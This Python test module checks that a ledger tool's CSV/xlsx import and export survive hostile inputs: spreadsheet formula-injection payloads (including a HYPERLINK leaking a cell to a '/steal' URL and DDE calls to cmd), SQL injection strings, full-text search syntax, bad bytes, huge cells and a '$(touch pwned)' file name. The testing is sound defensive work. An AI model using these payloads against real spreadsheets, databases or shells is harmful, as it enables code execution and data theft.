"""Hostile inputs to `import problems` (CSV and .xlsx built here), to
`export --search`, and odd file names for inputs and outputs.

Each must end without a crash (exit 0 or 1, never a signal), with a clear
one-line message when refused, and the database must pass the checks after it
(integrity_check, foreign_key_check, the search index, `qingfeng-cli check`).
Formula-like text must come back out of an export as text cells (t="s" or
t="inlineStr", never <f>); SQL-like text must be stored as it was.
"""
import os

from rellib import (Scenario, csv_bytes, first_sheet_rows, inspect_db, listing,
                    one_line_message, pdf_complete, place_database, query, read_xlsx, short,
                    write_xlsx)

HEADER = ["Code", "Title", "Description", "Received", "Handling note"]

FORMULAS = ['=HYPERLINK("http://example.invalid/steal?d="&A1,"点击查看")',
            "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "=1+1", "=cmd|'/c notepad'!'A1'",
            "+1-1", "=DDE(\"cmd\";\"/c calc\";\"x\")"]
SQL = ["'); DROP TABLE problem;--", "x' OR '1'='1", "Robert'); DELETE FROM audit_log; --",
       "\"; DROP TABLE cadre; --", "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
       "%' UNION SELECT reporter FROM problem --"]
FTS = ['"', "*", "NEAR(", "OR", "AND NOT", "^", 'a"b', "公车 OR 吃喝", '"公车', "NEAR(公车 吃喝, 2)",
       "pairs: 公车", "(((", "-", "a*b", "公车*", "^公车", "AND", "NOT 公车", "''", "{pairs}: x"]


def run(ctx):
    fx = ctx.fixtures
    with Scenario(ctx, "hostile: formula payloads") as sc:
        db = hostile_db(ctx, sc)
        for fmt in ("csv", "xlsx"):
            rows = [["HF%s-%d" % (fmt[0].upper(), i), p, p, "2026-01-05", p]
                    for i, p in enumerate(FORMULAS, start=1)]
            path = write_input(sc, "formulas." + fmt, HEADER, rows)
            result = try_import(ctx, sc, db, "formulas from .%s" % fmt, path, len(rows))
            if result.rc == 0:
                check_text_cells(ctx, sc, db, "formulas from .%s" % fmt,
                                 {r[0]: r[1] for r in rows})
    with Scenario(ctx, "hostile: SQL syntax") as sc:
        db = hostile_db(ctx, sc)
        for fmt in ("csv", "xlsx"):
            rows = [["HS%s-%d" % (fmt[0].upper(), i), p, p, "2026-01-06", p]
                    for i, p in enumerate(SQL, start=1)]
            path = write_input(sc, "sql." + fmt, HEADER, rows)
            result = try_import(ctx, sc, db, "SQL text from .%s" % fmt, path, len(rows))
            if result.rc == 0:
                stored = dict(query(ctx, db, "SELECT code, title FROM problem "
                                    "WHERE code LIKE 'HS%'"))
                want = {r[0]: r[1] for r in rows}
                ctx.report.check("SQL text from .%s: stored as written" % fmt,
                                 all(stored.get(k) == v for k, v in want.items()),
                                 "every title exactly as in the file",
                                 {k: stored.get(k) for k in want if stored.get(k) != want[k]}
                                 or "as written")
            # SQL in the columns looked up by name: an unknown name is a row error.
            path = write_input(sc, "sql-lookup." + fmt,
                               ["Code", "Title", "Received", "Responsible department",
                                "Responsible person"],
                               [["HSL-%s" % fmt, "lookup", "2026-01-06", SQL[0], SQL[2]]])
            try_import(ctx, sc, db, "SQL text as a department and person (.%s)" % fmt, path, 1)
        state = inspect_db(ctx, db, fts=False, digest=False)
        ctx.report.check("SQL text: every table still there", all(
            t in state.counts for t in ("problem", "audit_log", "cadre")),
            "problem, audit_log and cadre present", sorted(state.counts))
    with Scenario(ctx, "hostile: FTS syntax in titles and in export --search") as sc:
        db = hostile_db(ctx, sc)
        rows = [["HT-%d" % i, p, p, "2026-01-07", ""] for i, p in enumerate(FTS, start=1)]
        path = write_input(sc, "fts.csv", HEADER, rows)
        try_import(ctx, sc, db, "FTS syntax in titles", path, len(rows))
        out = sc.mkdir("out")
        for i, text in enumerate(FTS, start=1):
            ctx.report.hostile += 1
            target = os.path.join(out, "search-%d.xlsx" % i)
            result = ctx.cli(["export", "problems", target, "--search", text], db=db)
            label = "export --search %r" % text
            if not check_ended(ctx, label, result):
                continue
            if result.rc == 0:
                wb = read_xlsx(target)
                ctx.report.check(label + ": a readable workbook", wb.ok, "a workbook",
                                 wb.error or "%d rows" % (len(first_sheet_rows(wb)) - 1))
        check_db(ctx, "after the searches", db)
    with Scenario(ctx, "hostile: invalid UTF-8, NUL and control characters") as sc:
        db = hostile_db(ctx, sc)
        csv_payloads = [b"bad \xff\xfe utf-8 \xc3\x28", b"nul \x00 inside", b"ctrl \x01\x02\x07",
                        b"escape \x1b[31m red \x1b[0m", b"del \x7f", b"overlong \xc0\xaf",
                        b"surrogate \xed\xa0\x80", b"bom \xef\xbb\xbf inside", b"cr \r alone",
                        b"\x00"]
        for i, payload in enumerate(csv_payloads, start=1):
            rows = [["HB-C%d" % i, payload, payload, "2026-01-08", payload]]
            path = write_input(sc, "bytes-%d.csv" % i, HEADER, rows)
            result = try_import(ctx, sc, db, "CSV with %r" % payload, path, 1)
            if result.rc == 0:
                check_valid_text(ctx, db, "CSV with %r" % payload, "HB-C%d" % i)
        xml_payloads = [b"bad \xff\xfe utf-8", b"char ref &#1; one", b"raw \x01 control",
                        b"nul &#0; ref", b"surrogate &#xD800; ref", b"unclosed <b> tag",
                        b"entity &ent; unknown", b"ok \xe5\x85\xac\xe8\xbd\xa6 then \xc3"]
        for i, payload in enumerate(xml_payloads, start=1):
            rows = [["HB-X%d" % i, payload, payload, "2026-01-08", payload]]
            path = write_input(sc, "bytes-%d.xlsx" % i, HEADER, rows)
            result = try_import(ctx, sc, db, ".xlsx with %r" % payload, path, 1)
            if result.rc == 0:
                check_valid_text(ctx, db, ".xlsx with %r" % payload, "HB-X%d" % i)
        check_db(ctx, "after the bad bytes", db)
    with Scenario(ctx, "hostile: huge cells") as sc:
        db = hostile_db(ctx, sc)
        cases = [("a 1 MB title", 1, "长" * 350000), ("a 1 MB description", 2, "x" * 1048576),
                 ("a 40,000-character title", 1, "字" * 40000),
                 ("a 40,000-character description", 2, "d" * 40000),
                 ("a 32,767-character description", 2, "e" * 32767)]
        for fmt in ("csv", "xlsx"):
            for i, (what, column, text) in enumerate(cases, start=1):
                row = ["HH%s-%d" % (fmt[0].upper(), i), "huge", "", "2026-01-09", ""]
                row[column] = text
                path = write_input(sc, "huge-%d.%s" % (i, fmt), HEADER, [row])
                label = "%s in .%s" % (what, fmt)
                result = try_import(ctx, sc, db, label, path, 1)
                if result.rc == 0:
                    target = sc.path("after-huge.xlsx")
                    export = ctx.cli(["export", "problems", target], db=db)
                    ctx.report.check(label + ": the ledger can still be exported",
                                     export.rc == 0, "exit 0 (what was imported can be "
                                     "exported)", "%s %s" % (export.describe(),
                                                             short(export.err)))
    with Scenario(ctx, "hostile: odd file names for inputs and outputs") as sc:
        odd_names(ctx, sc)


def hostile_db(ctx, sc):
    db = os.path.join(sc.mkdir("db"), "ledger.db")
    place_database(ctx.fixtures["faults_db"], db)
    return db


def write_input(sc, name, header, rows):
    path = os.path.join(sc.mkdir("in"), name)
    if name.endswith(".xlsx"):
        write_xlsx(path, header, rows)
    else:
        with open(path, "wb") as f:
            f.write(csv_bytes(header, rows))
    return path


def check_ended(ctx, label, result):
    """No crash: exit 0 or 1, never a signal; a refusal with one clear line."""
    ok = result.rc in (0, 1)
    ctx.report.check(label + ": no crash", ok, "exit 0 or 1",
                     "%s %s" % (result.describe(), short(result.err, 300)))
    if result.rc == 1:
        good, got = one_line_message(result)
        ctx.report.check(label + ": clear refusal", good,
                         "one line 'qingfeng-cli: …' without library text", got)
    return ok


def check_db(ctx, label, db):
    state = inspect_db(ctx, db, digest=False)
    ctx.report.check(label + ": database sound", state.sound,
                     "integrity ok, no foreign-key faults, search index ok", state.problems(),
                     loss="the database was damaged by an input")
    result = ctx.cli(["check"], db=db)
    ctx.report.check(label + ": qingfeng-cli check", result.rc == 0, "exit 0",
                     "%s %s" % (result.describe(), short(result.err)))


def try_import(ctx, sc, db, label, path, n_rows):
    ctx.report.hostile += 1
    before = inspect_db(ctx, db, fts=False, digest=False).counts.get("problem")
    result = ctx.cli(["import", "problems", path], db=db)
    check_ended(ctx, label, result)
    after = inspect_db(ctx, db, fts=False, digest=False).counts.get("problem")
    if result.rc == 0:
        ctx.report.check(label + ": all rows in", after == before + n_rows,
                         "%d more problems" % n_rows, "%s more" % (after - before))
    elif result.rc == 1:
        ctx.report.check(label + ": nothing in", after == before, "no new problem",
                         "%s more" % (after - before), loss="a refused import wrote rows")
    check_db(ctx, label, db)
    return result


def check_valid_text(ctx, db, label, code):
    rows = query(ctx, db, "SELECT title, description, note FROM problem WHERE code = ?",
                 (code,), text_factory=bytes)
    bad = []
    for row in rows:
        for value in row:
            if value is None:
                continue
            try:
                text = value.decode("utf-8")
            except UnicodeDecodeError:
                bad.append(value[:40])
                continue
            if "\0" in text:
                bad.append(value[:40])
    ctx.report.check(label + ": stored as valid UTF-8 text without NUL", rows and not bad,
                     "the problem stored, its text valid UTF-8",
                     "not found" if not rows else (bad or "valid"))


def check_text_cells(ctx, sc, db, label, titles):
    """Exports the ledger and finds each payload as a text cell, never a formula."""
    target = sc.path("formulas-out.xlsx")
    result = ctx.cli(["export", "problems", target], db=db)
    if not ctx.report.check(label + ": exported", result.rc == 0, "exit 0",
                            "%s %s" % (result.describe(), short(result.err))):
        return
    wb = read_xlsx(target)
    if not ctx.report.check(label + ": export readable", wb.ok, "a workbook", wb.error or "ok"):
        return
    rows = first_sheet_rows(wb)
    header = {c: cell.value for c, cell in rows[0].items()}
    columns = {name: c for c, name in header.items()}
    formulas = sum(1 for r in rows for cell in r.values() if cell.formula is not None)
    ctx.report.check(label + ": no formula in the export", formulas == 0, "no <f> element",
                     "%d cells with <f>" % formulas,
                     loss="text became a formula that runs when the workbook is opened")
    found = {}
    for r in rows[1:]:
        code = r.get(columns["Code"])
        if code is not None and code.value in titles:
            found[code.value] = r
    for code, payload in titles.items():
        r = found.get(code)
        if r is None:
            ctx.report.check("%s %s: in the export" % (label, code), False, "the row", "missing")
            continue
        cells = [r.get(columns[name]) for name in ("Title", "Description", "Handling note")]
        kinds = [(c.kind, c.formula) if c else None for c in cells]
        ok = all(c is not None and c.kind in ("s", "inlineStr") and c.formula is None
                 and c.value == payload for c in cells)
        ctx.report.check("%s %r: text cells" % (label, payload), ok,
                         "t=\"s\" or t=\"inlineStr\", no <f>, the text as written",
                         "kinds %s, values %s" % (kinds, [short(c.value, 60) if c else None
                                                         for c in cells]))


# ---------------------------------------------------------------- odd file names

ODD = ["with space", "台账 二〇二六年", "-x", "quote'and\"double", "new\nline",
       "$(touch pwned)"]


def odd_names(ctx, sc):
    fx = ctx.fixtures
    report = ctx.report
    db = hostile_db(ctx, sc)
    folder = sc.mkdir("odd")
    for i, stem in enumerate(ODD, start=1):
        shown = repr(stem)
        for fmt in ("csv", "xlsx"):
            name = stem + "." + fmt
            # Titles of their own: rows like those of an earlier file would
            # be skipped as already in the ledger.
            rows = [["HN%d%s-%d" % (i, fmt[0], k), "odd name %d%s-%d" % (i, fmt[0], k), "",
                     "2026-01-10", ""] for k in range(1, 4)]
            path = os.path.join(folder, name)
            if fmt == "xlsx":
                write_xlsx(path, HEADER, rows)
            else:
                with open(path, "wb") as f:
                    f.write(csv_bytes(HEADER, rows))
            arg = "./" + name if stem.startswith("-") else path
            report.hostile += 1
            before = listing(folder)
            result = ctx.cli(["import", "problems", arg], db=db, cwd=folder)
            label = "import from %r" % (arg if arg.startswith("./") else name)
            report.check(label, result.rc == 0 and "3 added" in result.out, "exit 0, 3 added",
                         "%s %s %s" % (result.describe(), short(result.out.strip()[-80:]),
                                       short(result.err)))
            report.check(label + ": no other file", listing(folder) == before, before,
                         listing(folder))
        for label, args, name, kind in (
                ("export problems .xlsx", ["export", "problems"], stem + ".xlsx", "xlsx"),
                ("export problems .pdf", ["export", "problems", "--from", "2026-01-10",
                                          "--to", "2026-01-10"], stem + ".pdf", "pdf"),
                ("report monthly", ["report", "monthly", fx["month"]], stem + " m.xlsx", "xlsx"),
                ("notice", ["notice", fx["notice_code"]], stem + " n.pdf", "pdf"),
                ("cadre-file", ["cadre-file", fx["cadre_code"]], stem + " c.pdf", "pdf"),
                ("backup", ["backup"], stem + ".db", "db")):
            out = sc.mkdir("out-%d" % i)
            for leftover in os.listdir(out):
                os.unlink(os.path.join(out, leftover))
            arg = "./" + name if stem.startswith("-") else os.path.join(out, name)
            report.hostile += 1
            result = ctx.cli(args + [arg], db=db, cwd=out)
            made = listing(out)
            target = os.path.join(out, name)
            if kind == "xlsx":
                wb = read_xlsx(target)
                complete = (wb.ok, wb.error or "a workbook")
            elif kind == "pdf":
                complete = pdf_complete(target)
            else:
                state = inspect_db(ctx, target, fts=False, digest=False)
                complete = (state.sound, state.problems())
            report.check("%s to %s" % (label, shown), result.rc == 0 and made == [name]
                         and complete[0], "exit 0 and exactly %r, complete" % name,
                         "%s, files %s, %s %s" % (result.describe(), made, complete[1],
                                                  short(result.err)))
    report.check("no command ran a shell", not os.path.exists(os.path.join(folder, "pwned"))
                 and not any(os.path.exists(os.path.join(sc.dir, d, "pwned"))
                             for d in os.listdir(sc.dir)), "no file named pwned", "none")
    check_db(ctx, "after the odd names", db)
